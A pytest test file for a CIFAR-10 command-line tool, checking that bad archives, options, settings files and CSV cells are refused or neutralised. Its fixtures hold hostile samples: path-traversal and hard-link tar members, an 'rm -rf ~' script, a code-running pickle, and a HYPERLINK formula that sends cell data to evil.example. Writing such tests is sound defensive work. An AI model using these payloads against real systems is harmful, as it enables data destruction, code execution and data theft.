"""Bad input through the real CLI: refused with one line, nothing lost, nothing written outside the cache.

Each case of the first part starts from a copy of a workspace that already holds a dataset, a
trained run and its evaluation, runs one bad command, and checks:

* the exit code and the words of the one ``error:`` line (no traceback),
* nothing changed outside the cache folder (every file and folder compared),
* every artifact made before is still there with the same checksum, and
  ``cache verify`` passes.

The second part covers edges a user or an attacker reaches from the command line: settings
files nested thousands deep, spreadsheet formulas in CSV cells, narrow terminals, values that
must be refused rather than ignored, and errors that quote megabytes.

docs/reliability.md lists these cases; ``test_every_test_linked_from_the_table_exists`` keeps its links true.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import tarfile
from functools import partial
from pathlib import Path

import pytest
from typer.testing import CliRunner

import tinycifar
from httpserver import http_server  # noqa: F401  (pytest fixture)
from procs import checksums, cli_process, env_for, one_error, tree

ROOT = Path(__file__).resolve().parents[1]
BIN, PY = "cifar-10-batches-bin", "cifar-10-batches-py"
TRAINED = ("--n-epochs", "2", "--n-batch", "20")


# --------------------------------------------------------------------------- the workspace


@pytest.fixture(scope="module")
def base(tmp_path_factory, tiny_archive) -> Path:
    """A folder with ./cache holding a dataset, a run and its evaluation (made once, copied per test)."""
    from cifarcli.cli import app

    root = tmp_path_factory.mktemp("reliability-base")
    runner = CliRunner()
    for args in (("fetch", "--source", tiny_archive), ("evaluate", *TRAINED)):
        done = runner.invoke(app, [*map(str, args), "--cache-dir", str(root / "cache"), "-q"])
        assert done.exit_code == 0, done.stderr
    return root


@pytest.fixture
def ws(tmp_path, base, monkeypatch, offline):
    """A copy of ``base`` as the working folder, offline (conftest.offline)."""
    work = tmp_path / "w"
    shutil.copytree(base, work)
    monkeypatch.chdir(work)
    monkeypatch.delenv("CIFARCLI_CACHE_DIR", raising=False)
    return work


def invoke(*args):
    from cifarcli.cli import app

    return CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False)


def refused(work: Path, args, code: int, *words: str) -> str:
    """Run ``args``: one error line with ``words``, exit ``code``; nothing outside ./cache changed, nothing lost."""
    outside = tree(work, skip=("cache",))
    before = checksums(work / "cache")
    result = invoke(*args, *(() if args[0] in ("status", "cache") else ("--quiet",)))
    assert result.exit_code == code, (result.exit_code, result.stderr)
    assert "Traceback" not in result.stderr and result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    for word in words:
        assert word in lines[0], (word, lines[0])
    assert tree(work, skip=("cache",)) == outside
    assert checksums(work / "cache").items() >= before.items()
    assert invoke("cache", "verify").exit_code == 0
    return lines[0]


# --------------------------------------------------------------------------- archives


def tiny(fmt: str) -> dict[str, bytes]:
    return (tinycifar.binary_members if fmt == "binary" else tinycifar.python_members)(n_per_batch=20, n_test=20)


def tar_gz(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for info, raw in members:
            tar.addfile(info, io.BytesIO(raw) if raw is not None else None)
    return buffer.getvalue()


def regular(name: str, raw: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(raw)
    return info, raw


def special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    return info, None


def good_members(fmt: str = "binary") -> list:
    folder = BIN if fmt == "binary" else PY
    return [regular(f"{folder}/{name}", raw) for name, raw in tiny(fmt).items()]


class _Calls:
    def __reduce__(self):
        return (print, ("unpickling ran code",))


def _archive_with(fmt: str, name: str, raw: bytes) -> bytes:
    folder = BIN if fmt == "binary" else PY
    return tar_gz([regular(f"{folder}/{n}", raw if n == name else r) for n, r in tiny(fmt).items()])


def _without(name: str) -> bytes:
    return tar_gz([m for m in good_members() if not m[0].name.endswith("/" + name)])


ARCHIVES = {
    # id: (file bytes, words of the error line)
    "html-page": (b"<!DOCTYPE html><html><body>Please log in</body></html>\n" * 20, ("neither gzip nor tar",)),
    "gzip-of-garbage": (gzip.compress(bytes(range(256)) * 400), ("damaged or truncated archive",)),
    "absolute-path": (
        tar_gz([*good_members(), regular("/tmp/cifarcli-evil", b"evil")]),
        ("'/tmp/cifarcli-evil'", "outside the archive folder"),
    ),
    "hard-link": (
        tar_gz([*good_members(), special(f"{BIN}/evil", tarfile.LNKTYPE, "/etc/passwd")]),
        (f"'{BIN}/evil'", "is a hard link"),
    ),
    "device-member": (
        tar_gz([special(f"{BIN}/data_batch_1.bin", tarfile.CHRTYPE), *good_members()[1:]]),
        ("is a device or fifo",),
    ),
    "fifo-member": (tar_gz([*good_members(), special(f"{BIN}/pipe", tarfile.FIFOTYPE)]), ("is a device or fifo",)),
    "extra-member": (
        tar_gz([*good_members(), regular(f"{BIN}/install.sh", b"#!/bin/sh\nrm -rf ~\n")]),
        (f"'{BIN}/install.sh'", "not a CIFAR-10 file"),
    ),
    "member-outside-the-folder": (
        tar_gz([*good_members(), regular("notes.txt", b"hi")]),
        ("'notes.txt'", "not part of one CIFAR-10 folder"),
    ),
    "pickle-calls-a-function": (
        _archive_with("python", "data_batch_1", pickle.dumps(_Calls(), protocol=2)),
        ("data_batch_1", "refusing to unpickle", "print"),
    ),
    "pickle-of-another-object": (
        _archive_with("python", "data_batch_2", pickle.dumps([1, 2, 3], protocol=2)),
        ("data_batch_2", "expected a dict, the pickle holds a list"),
    ),
    "binary-size-not-3073-multiple": (
        _archive_with("binary", "data_batch_5.bin", b"\0" * (3073 * 20 - 1)),
        ("data_batch_5.bin", "not a whole number of 3073-byte records"),
    ),
    "label-10": (
        _archive_with("binary", "test_batch.bin", b"\x0a" + b"\0" * 3072 * 1 + b"\0" * 3073 * 19),
        ("test_batch.bin", "label 10 is outside 0-9"),
    ),
    "missing-batch": (_without("data_batch_3.bin"), ("missing", "data_batch_3.bin")),
    "truncated-gzip": (tar_gz(good_members())[:-5000], ("damaged or truncated archive",)),
}


@pytest.mark.parametrize("case", sorted(ARCHIVES))
def test_bad_archive(ws, case):
    raw, words = ARCHIVES[case]
    source = ws / "inputs" / "suspicious.tar.gz"
    source.parent.mkdir()
    source.write_bytes(raw)
    refused(ws, ("fetch", "--source", source), 2, *words)
    assert not Path("/tmp/cifarcli-evil").exists()
    # The dataset imported before is still the current one: later stages still find it.
    assert json.loads(invoke("status", *TRAINED, "--json").stdout)["stages"][2]["state"] == "cached"


def test_wrong_checksum_pin_of_a_local_archive(ws, tiny_archive):
    line = refused(ws, ("fetch", "--source", tiny_archive, "--md5", "0" * 32), 2, "md5 is", "expected " + "0" * 32)
    assert line.endswith("(check the file, or drop the --md5 pin)")  # the library's `md5`, as typed


# --------------------------------------------------------------------------- network


def test_500_then_success_downloads_once_and_whole(ws, http_server, tiny_archive, monkeypatch):
    from cifarcli import download

    monkeypatch.setattr(download, "download", partial(download.download, backoff=0.01))
    route = http_server.route("/c.tar.gz", body=tiny_archive.read_bytes(), fail_times=2)
    outside = tree(ws, skip=("cache",))
    result = invoke("fetch", "--source", http_server.url("/c.tar.gz"), "--json")
    assert result.exit_code == 0, result.stderr
    assert route.hits == 3  # two 500s, then the whole file
    [archive] = (ws / "cache" / "downloads").glob("*c.tar.gz")
    assert archive.read_bytes() == tiny_archive.read_bytes()
    assert tree(ws, skip=("cache",)) == outside


def test_a_server_that_stalls_until_the_read_timeout_is_retried_then_given_up(
    ws, http_server, tiny_archive, monkeypatch
):
    from cifarcli import download

    monkeypatch.setattr(download, "download", partial(download.download, read_timeout=0.3, backoff=0.01, retries=2))
    http_server.route("/slow.tar.gz", body=tiny_archive.read_bytes(), stall=2, stall_times=10)
    refused(
        ws,
        ("fetch", "--source", http_server.url("/slow.tar.gz")),
        1,
        "cannot download",
        "timed out",
        "gave up after 2 retries",
    )
    assert not [p for p in (ws / "cache" / "downloads").glob("*") if not p.name.endswith(".part")]


def test_a_redirect_loop_is_refused(ws, http_server):
    http_server.route("/loop", location="/loop")
    refused(ws, ("fetch", "--source", http_server.url("/loop")), 1, "cannot download", "too many redirects")


def test_a_connection_cut_mid_body_every_time_gives_up_keeping_the_part(ws, http_server, tiny_archive, monkeypatch):
    from cifarcli import download

    monkeypatch.setattr(download, "download", partial(download.download, backoff=0.01, retries=2))
    http_server.route("/cut.tar.gz", body=tiny_archive.read_bytes(), cut_after=0, cut_times=100)
    refused(ws, ("fetch", "--source", http_server.url("/cut.tar.gz")), 1, "cannot download", "gave up")


# --------------------------------------------------------------------------- options


BAD_OPTIONS = {
    "gradcheck-h-nan": (("gradcheck", "--h", "nan"), 2, ("--h:", "(0, 1]")),
    "gradcheck-h-zero": (("gradcheck", "--h", "0"), 2, ("--h:", "(0, 1]")),
    "gradcheck-h-huge": (("gradcheck", "--h", "1e300"), 2, ("--h:", "(0, 1]")),
    "gradcheck-lam-inf": (("gradcheck", "--lam", "inf"), 2, ("--lam:", "finite number >= 0")),
    "gradcheck-n-dims-0": (("gradcheck", "--n-dims", "0"), 2, ("--n-dims",)),
    "gradcheck-n-samples-too-many": (
        ("gradcheck", "--n-samples", "100000", "--n-dims", "5"),
        2,
        ("--n-samples: 100000 is more than",),
    ),
    "gradcheck-tol-nan": (("gradcheck", "--tol", "nan"), 2, ("--tol", "finite number >= 0")),
    "gradcheck-tol-negative": (("gradcheck", "--tol", "-1"), 2, ("--tol",)),
    "evaluate-min-accuracy-inf": (("evaluate", *TRAINED, "--min-accuracy", "inf"), 2, ("--min-accuracy", "finite")),
    "evaluate-min-accuracy-nan": (("evaluate", *TRAINED, "--min-accuracy", "nan"), 2, ("--min-accuracy", "finite")),
    "train-eta-inf": (("train", "--eta", "inf"), 2, ("--eta",)),
    "train-lam-nan": (("train", "--lam", "nan"), 2, ("--lam",)),
    "train-unknown-loss": (("train", "--loss", "hinge"), 2, ("--loss", "'hinge'")),
    "train-n-batch-negative": (("train", "--n-batch", "-5"), 2, ("--n-batch",)),
    "report-jobs-0": (("report", "--jobs", "0"), 2, ("--jobs",)),
    "sweep-empty-grid": (("sweep", "--lam", "", "--eta", "0.1"), 2, ("--lam", "empty grid")),
    "sweep-not-a-number": (("sweep", "--lam", "0,x", "--eta", "0.1"), 2, ("--lam", "'x' is not a number")),
    "plot-unknown-run": (("plot", "--run", "ffff0000"), 2, ("no training run 'ffff0000'",)),
    "status-bad-eta": (("status", "--eta", "0"), 2, ("--eta",)),
}


@pytest.mark.parametrize("case", sorted(BAD_OPTIONS))
def test_bad_option(ws, case):
    args, code, words = BAD_OPTIONS[case]
    refused(ws, args, code, *words)


def test_eta_that_overflows_float32_is_one_line(ws):
    """--eta 1e300 becomes inf in float32: the run diverges, and stderr holds only the error line."""
    from procs import cli_process

    before = checksums(ws / "cache")
    done = cli_process(ws, "train", "--eta", "1e300", "--n-epochs", "2", "--cache-dir", "cache", "--quiet")
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [done.stderr.strip()]  # one line: no RuntimeWarning
    assert done.stderr.startswith("error:") and "diverged at epoch 1" in done.stderr
    assert checksums(ws / "cache").items() >= before.items()


def test_report_toml_of_the_wrong_type(ws):
    Path("inputs").mkdir()
    Path("inputs/s.toml").write_text('[[run]]\nlam = 0.1\neta = 0.001\nn_batch = "ten"\n')
    refused(ws, ("report", "--config", "inputs/s.toml"), 2, "s.toml", "n_batch")


# --------------------------------------------------------------------------- the store


def test_workspace_file_not_json_loses_nothing(ws, tiny_archive):
    before = checksums(ws / "cache")
    (ws / "cache" / "workspace.json").write_text("{half written")
    result = invoke("fetch", "--source", tiny_archive, "--json")
    assert result.exit_code == 0 and json.loads(result.stdout)["cached"] is True  # the dataset is reused
    result = invoke("evaluate", *TRAINED, "--json")
    assert result.exit_code == 0, result.stderr
    assert checksums(ws / "cache") == before  # nothing recomputed, nothing lost


def test_meta_json_not_json_is_recomputed_identically(ws):
    [meta] = (ws / "cache" / "evaluate").glob("*/meta.json")
    before = checksums(ws / "cache")
    meta.write_text("not json {")
    result = invoke("evaluate", *TRAINED, "--json")
    assert result.exit_code == 0, result.stderr
    assert "damaged artifact evaluate/" in result.stderr and "recomputing" in result.stderr
    assert checksums(ws / "cache") == before  # same bytes as before the damage


# --------------------------------------------------------------------------- --json on failure


JSON_FAILURES = {
    "status": (("status", "--eta", "-1"), 2),
    "cache-ls-file": (("cache", "ls", "--cache-dir", "afile"), 2),
    "cache-gc-file": (("cache", "gc", "--cache-dir", "afile"), 2),
    "cache-clear-file": (("cache", "clear", "--cache-dir", "afile"), 2),
    "cache-verify-file": (("cache", "verify", "--cache-dir", "afile"), 2),
    "sweep": (("sweep", "--lam", "", "--eta", "0.1"), 2),
    "report": (("report", "--jobs", "0"), 2),
    "gradcheck": (("gradcheck", "--tol", "nan"), 2),
}


@pytest.mark.parametrize("case", sorted(JSON_FAILURES))
def test_json_failure_is_one_document(ws, case):
    args, code = JSON_FAILURES[case]
    Path("afile").write_text("x")
    result = invoke(*args, "--json")
    assert result.exit_code == code, result.stderr
    doc = json.loads(result.stdout)
    assert doc["exit_code"] == code and doc["error"] and "hint" in doc
    assert len([line for line in result.stderr.splitlines() if line.startswith("error:")]) == 1


# --------------------------------------------------------------------------- the table cannot rot


TABLE = ROOT / "docs" / "reliability.md"


def test_every_test_linked_from_the_table_exists():
    text = TABLE.read_text()
    links = sorted(set(re.findall(r"(tests/test_\w+\.py::[\w\[\]\-./]+)", text)))
    rows = [line for line in text.splitlines() if line.startswith("| ") and "tests/" in line]
    assert len(rows) >= 25, len(rows)
    files = sorted({link.split("::")[0] for link in links})
    collected = subprocess.run(
        [sys.executable, "-m", "pytest", "--collect-only", "-q", "-m", "", *files],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    ).stdout.splitlines()
    ids = {line.strip() for line in collected if "::" in line}
    functions = {i.split("[")[0] for i in ids}
    missing = [link for link in links if link not in ids and link not in functions]
    assert missing == [], missing


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory, tiny_archive) -> tuple[Path, list[str]]:
    """A cache holding the tiny dataset and two short runs (λ = 0 and 0.1): (cache folder, run IDs)."""
    from cifarcli import stages
    from cifarcli.config import TrainConfig

    ws = stages.Workspace(tmp_path_factory.mktemp("trained") / "cache")
    stages.fetch(ws, str(tiny_archive))
    keys = [stages.train(ws, TrainConfig(lam=lam, eta=0.01, n_epochs=2, n_batch=50)).key for lam in (0.0, 0.1)]
    return ws.cache_dir, keys


def in_workspace(tmp_path: Path, two_runs) -> list[str]:
    shutil.copytree(two_runs[0], tmp_path / "cache")
    return two_runs[1]


def narrow(tmp_path: Path, columns: int) -> dict:
    return {**env_for(tmp_path), "COLUMNS": str(columns)}


def settings_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "study.toml"
    path.write_text(text)
    return path


# -- settings files the parser cannot take ------------------------------------------------------

DEEP = 5000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("x = " + "[" * DEEP + "]" * DEEP, id="arrays-5000-deep"),
        pytest.param(
            "[[run]]\nlam = 0\neta = 0.1\nx = " + "{a = " * DEEP + "1" + "}" * DEEP, id="inline-tables-5000-deep"
        ),
        pytest.param("[[run]]\nlam = 0\neta = 0.1\nseed = " + "7" * 5000, id="seed-of-5000-digits"),
    ],
)
def test_a_settings_file_the_parser_cannot_take_is_one_line_naming_it(tmp_path, text):
    path = settings_file(tmp_path, text)
    done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
    line = one_error(done, 2, str(path))
    assert len(line) < 300


def test_a_value_nested_deep_but_readable_is_refused_in_a_short_line(tmp_path):
    path = settings_file(tmp_path, "[[run]]\neta = 0.1\nlam = " + "[" * 300 + "]" * 300)
    line = one_error(
        cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "run 1", "lam"
    )
    assert "[[[[...]]]]" in line and len(line) < 300


# -- runs --csv and spreadsheets ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
)
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, two_runs, formula):
    from cifarcli import runs, runs_table, stages

    in_workspace(tmp_path, two_runs)
    result = runs.list_runs(stages.Workspace(tmp_path / "cache"))
    first, second = result["runs"]
    first["created"], second["settings"]["split"] = formula, formula
    first["val_acc"] = -0.5  # a number, not text: it stays a number
    rows = list(csv.DictReader(io.StringIO(runs_table.runs_csv(result), newline="")))
    assert rows[0]["created"] == "'" + formula and rows[1]["split"] == "'" + formula
    assert rows[0]["val_acc"] == "-0.5"
    assert [r["run_id"] for r in rows] == [first["run_id"], second["run_id"]]
    assert rows[1]["created"] == second["created"] and rows[0]["split"] == "seed"


def test_runs_csv_of_a_real_cache_is_unchanged_by_the_rule(tmp_path, two_runs):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--csv", "--cache-dir", "cache")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert sorted(r["run_id"] for r in rows) == sorted(keys)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:]+[+-]\d\d:\d\d", r["created"]) for r in rows)


# -- narrow terminals -------------------------------------------------------------------------------------


@pytest.mark.parametrize("columns", [0, 1, 5])
def test_runs_at_any_terminal_width_lists_the_runs(tmp_path, two_runs, columns):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    assert all(key[:8] in done.stdout for key in keys)
    as_json = cli_process(tmp_path, "runs", "--json", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    assert as_json.returncode == 0, as_json.stderr
    assert sorted(r["run_id"] for r in json.loads(as_json.stdout)["runs"]) == sorted(keys)


@pytest.mark.parametrize("columns", [0, 1, 20])
def test_an_error_is_printed_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "evaluate", "--run", "zzzz", "--cache-dir", "cache", env=narrow(tmp_path, columns))
    one_error(done, 2, "zzzz")


@pytest.mark.parametrize("columns", [1, 10, 20])
def test_the_train_result_shows_its_numbers_at_any_terminal_width(tmp_path, two_runs, columns):
    in_workspace(tmp_path, two_runs)
    args = ("train", "--lam", "0", "--eta", "0.01", "--n-epochs", "2", "--n-batch", "50", "--cache-dir", "cache")
    wide = json.loads(cli_process(tmp_path, *args, "--json").stdout)
    done = cli_process(tmp_path, *args, env=narrow(tmp_path, columns))
    assert done.returncode == 0, done.stderr
    for split in ("train", "val"):
        assert f"{wide['final'][split + '_acc']:.4f}" in done.stdout, done.stdout
        assert f"{wide['final'][split + '_cost']:.4f}" in done.stdout, done.stdout


# -- values refused, not ignored (item 10) --------------------------------------------------------------


@pytest.mark.parametrize(
    "args, flag",
    [
        (("--split", "bogus"), "--split"),
        (("--where", "split=bogus"), "--where"),
        (("--where", "dtype=float16"), "--where"),
        (("--where", "loss=hinge"), "--where"),
    ],
)
def test_runs_filtered_on_a_value_no_run_can_have_is_exit_2(tmp_path, two_runs, args, flag):
    in_workspace(tmp_path, two_runs)
    line = one_error(cli_process(tmp_path, "runs", *args, "--cache-dir", "cache"), 2, flag, "unknown")
    assert "one of:" in line


def test_runs_filtered_on_a_valid_split_still_lists_them(tmp_path, two_runs):
    keys = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--split", "seed", "--json", "--cache-dir", "cache")
    assert sorted(r["run_id"] for r in json.loads(done.stdout)["runs"]) == sorted(keys)


def test_where_run_id_takes_a_prefix_as_run_does(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    for op, want in (("=", [first]), ("!=", [second])):
        done = cli_process(
            tmp_path, "runs", "--where", f"run_id{op}{first[:6].upper()}", "--json", "--cache-dir", "cache"
        )
        assert done.returncode == 0, done.stderr
        assert [r["run_id"] for r in json.loads(done.stdout)["runs"]] == want


def test_csv_with_diff_is_refused(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "runs", "--diff", first, second, "--csv", "--cache-dir", "cache")
    one_error(done, 2, "--csv", "--diff")
    assert done.stdout == ""


def test_ensemble_of_given_runs_refuses_training_options_it_would_ignore(tmp_path, two_runs):
    first, second = in_workspace(tmp_path, two_runs)
    done = cli_process(tmp_path, "ensemble", "--run", first, "--run", second, "--lam", "5", "--cache-dir", "cache")
    one_error(done, 2, "--lam", "--run")
    assert not (tmp_path / "cache" / "ensemble").exists()
    # Without the option, the same runs make an ensemble.
    assert cli_process(tmp_path, "ensemble", "--run", first, "--run", second, "--cache-dir", "cache").returncode == 0


def test_a_seed_in_the_ensemble_table_is_refused_not_dropped(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    path = settings_file(tmp_path, "[ensemble]\nseeds = [1, 2]\nseed = 5\nlam = 0\neta = 0.01\n")
    one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "seed")
    assert sorted(p.name for p in (tmp_path / "cache" / "train").iterdir() if not p.name.startswith(".")) == sorted(
        two_runs[1]
    )


def test_seeds_are_capped_before_any_training(tmp_path, two_runs):
    from cifarcli.config import MAX_SEEDS

    in_workspace(tmp_path, two_runs)
    seeds = ",".join(str(s) for s in range(MAX_SEEDS + 1))
    done = cli_process(tmp_path, "ensemble", "--seeds", seeds, "--n-epochs", "1", "--cache-dir", "cache")
    one_error(done, 2, "--seeds", f"at most {MAX_SEEDS}", str(MAX_SEEDS + 1))
    path = settings_file(tmp_path, f"[ensemble]\nseeds = [{seeds}]\nlam = 0\neta = 0.01\n")
    one_error(cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache"), 2, str(path), "seeds")
    assert len(list((tmp_path / "cache" / "train").glob("[0-9a-f]*"))) == 2  # nothing trained
    # At the cap, the seeds are accepted (the first check they meet is the cap's).
    from cifarcli.config import check_seeds

    assert check_seeds(list(range(MAX_SEEDS))) == list(range(MAX_SEEDS))


@pytest.mark.parametrize("where", ["settings", "option"])
def test_an_error_quotes_a_huge_value_short(tmp_path, where):
    if where == "settings":
        huge = "x" * 500_000  # under the settings file's 1 MiB cap: the value itself is what is clipped
        path = settings_file(tmp_path, f'[[run]]\nlam = 0\neta = 0.1\nsplit = "{huge}"\n')
        done = cli_process(tmp_path, "report", "--config", path, "--cache-dir", "cache")
        line = one_error(done, 2, str(path), "split", "xxx...xxx")
    else:
        done = cli_process(tmp_path, "train", "--split", "y" * 100_000, "--cache-dir", "cache")
        line = one_error(done, 2, "--split", "unknown split")
    assert len(line) < 600 and len(done.stderr) < 1000


def test_every_error_line_is_clipped_whatever_raised_it():
    from cifarcli.errors import MAX_ERROR_CHARS, CifarError, OptionError

    for error in (CifarError("a" * 10**6 + "END", hint="h" * 10**6), OptionError("split", "b" * 10**6)):
        assert len(error.message) <= MAX_ERROR_CHARS + 40 and "characters left out" in error.message
        assert error.message.startswith(("aaaa", "bbbb"))
    assert CifarError("a" * 10**6 + "END").message.endswith("END")  # the end stays: it often names the file
    assert len(CifarError("x", hint="h" * 10**6).hint) <= MAX_ERROR_CHARS + 40
    assert CifarError("short").message == "short"


@pytest.mark.parametrize("command", [("fetch",), ("runs",), ("status",), ("cache", "ls"), ("train", "--n-epochs", "1")])
def test_a_cache_that_is_a_loop_of_symbolic_links_is_one_line(tmp_path, command):
    (tmp_path / "cache").symlink_to("cache")
    done = cli_process(tmp_path, *command)
    one_error(done, 2, "cache", "loop of symbolic links")
    assert done.stderr.count("\n") == 1  # no notice before it
    assert (tmp_path / "cache").is_symlink() and os.readlink(tmp_path / "cache") == "cache"


def test_a_gradcheck_where_every_parameter_is_a_kink_claims_no_error(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    args = ("gradcheck", "--loss", "svm", "--h", "1", "--n-samples", "100", "--n-dims", "20", "--cache-dir", "cache")
    done = cli_process(tmp_path, *args)
    assert done.returncode == 0, done.stderr
    assert "FAIL" not in done.stdout and "1.00e+00" not in done.stdout and "1.0e+00" not in done.stdout
    assert "NOT CHECKED: every parameter is within h=1 of a kink" in done.stdout
    document = json.loads(cli_process(tmp_path, *args, "--json", "--tol", "1e-6").stdout)
    assert document["n_checked"] == 0 and document["passed"] is False and document["exit_code"] == 1
    assert all(e[p]["n_excluded"] == e[p]["n"] for e in document["results"] for p in ("W", "b"))
    one_error(cli_process(tmp_path, *args, "--tol", "1e-6"), 1, "no parameter could be checked")


def test_gradcheck_with_some_kinks_still_measures_the_others(tmp_path, two_runs):
    in_workspace(tmp_path, two_runs)
    done = cli_process(
        tmp_path,
        "gradcheck",
        "--loss",
        "svm",
        "--n-samples",
        "20",
        "--n-dims",
        "20",
        "--json",
        "--tol",
        "1e-4",
        "--cache-dir",
        "cache",
    )
    document = json.loads(done.stdout)
    assert done.returncode == 0 and document["passed"] is True and document["n_checked"] > 0
    assert document["verdict"].startswith("PASS")


def unlearnable_archive(path: Path) -> Path:
    """Every image a brightness of one template (rank one after normalising) under a random label:
    no setting fits it, and a huge step makes the training cost jump about instead of exploding to NaN."""
    import numpy as np

    import tinycifar

    rng = np.random.default_rng(1)
    template = rng.integers(50, 250, size=3072)

    def batch(n):
        return (
            np.round(rng.uniform(0.2, 1.0, size=(n, 1)) * template).astype(np.uint8),
            rng.permutation(np.arange(n) % 10).astype(np.uint8),
        )

    members = {f"{name}.bin": tinycifar._binary_bytes(*batch(200)) for name in [*tinycifar.TRAIN_FILES, "test_batch"]}
    members["batches.meta.txt"] = tinycifar.binary_members()["batches.meta.txt"]
    return tinycifar.write_archive(path, members, "cifar-10-batches-bin")


def test_a_training_whose_cost_explodes_warns_that_it_is_unstable_by_the_reports_rule(tmp_path):
    from cifarcli.report import instability

    archive = unlearnable_archive(tmp_path / "flat.tar.gz")
    assert cli_process(tmp_path, "fetch", "--source", archive, "-q").returncode == 0
    args = ("train", "--lam", "0", "--n-epochs", "10", "--n-batch", "20")
    wild = cli_process(tmp_path, *args, "--eta", "1000")
    assert wild.returncode == 0, wild.stderr
    [warning] = [line for line in wild.stderr.splitlines() if line.startswith("warning:")]
    assert "unstable by the report's rule" in warning and "training cost went up" in warning
    document = json.loads(cli_process(tmp_path, *args, "--eta", "1000", "--json").stdout)
    assert document["diverged_at"] is None and max(document["history"]["train_cost"]) > 1000
    assert document["unstable"] == instability(document).reason  # the report's own rule, its own words
    calm = cli_process(tmp_path, *args, "--eta", "0.001")
    assert calm.returncode == 0 and "warning" not in calm.stderr
    assert json.loads(cli_process(tmp_path, *args, "--eta", "0.001", "--json").stdout)["unstable"] is None
